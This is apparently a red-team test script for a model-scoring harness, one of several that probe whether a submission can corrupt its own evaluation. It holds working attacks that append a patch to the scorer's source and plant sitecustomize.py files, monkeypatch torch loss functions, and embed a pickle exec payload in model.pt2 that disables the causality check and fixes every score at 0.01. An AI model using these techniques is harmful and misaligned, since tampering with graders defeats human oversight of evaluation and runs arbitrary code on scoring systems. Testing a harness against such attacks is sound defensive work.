"""Red team 5: change how the score is computed.

(a) edit the scoring code on disk and drop a sitecustomize.py where the scorer's Python will import it;
(b) monkeypatch the torch functions scoring uses (in its own process: harmless, but an attacker tries);
(c) after submitting, rewrite model.pt2 so that loading it in the scorer runs a pickle that replaces
    fitness.scoring's check and evaluate: every later child too would score 0.01.
"""

import io
import os
import pickle
import sys
import zipfile

import torch
import torch.nn.functional as F

import fitness.scoring
import harness

PATCH = (
    "import fitness.scoring as s\n"
    "s.check_causal = lambda *a, **k: None\n"
    "s.evaluate = lambda *a, **k: 0.01\n"
)

# (a) the files
targets = [fitness.scoring.__file__, os.path.join(os.path.dirname(fitness.scoring.__file__), "scorer.py")]
targets += [os.path.join(p, "sitecustomize.py") for p in sys.path if os.path.isdir(p) and p != os.getcwd()]
for path in targets:
    try:
        with open(path, "a") as f:
            f.write("\n" + PATCH)
        print("WROTE", path)
    except OSError as e:
        print("could not write", path, "-", e.strerror)

# (b) the functions, in this process
torch.log_softmax = lambda x, dim=-1, **k: torch.zeros_like(x)
F.cross_entropy = lambda *a, **k: torch.tensor(0.0, requires_grad=True)

model = torch.nn.Embedding(harness.vocab_size, harness.vocab_size)
opt = torch.optim.Adam(model.parameters(), lr=0.1)
for step, (x, y) in enumerate(harness.batches(16)):
    loss = torch.nn.functional.nll_loss(torch.nn.functional.log_softmax(model(x), -1).flatten(0, 1), y.flatten())
    opt.zero_grad()
    loss.backward()
    opt.step()
harness.submit(model)


# (c) the model file: the scorer's torch.export.load falls back to a full unpickle of the sample inputs
class Payload:
    def __reduce__(self):
        return (exec, (PATCH,))


path = os.path.join(harness._session.dir, "model.pt2")
with zipfile.ZipFile(path) as archive:
    entries = {info.filename: archive.read(info.filename) for info in archive.infolist()}
with open(path, "wb") as f, zipfile.ZipFile(f, "w") as archive:
    for name, blob in entries.items():
        archive.writestr(name, pickle.dumps(Payload()) if name.endswith("sample_inputs/model.pt") else blob)
print("model.pt2 now carries the payload")
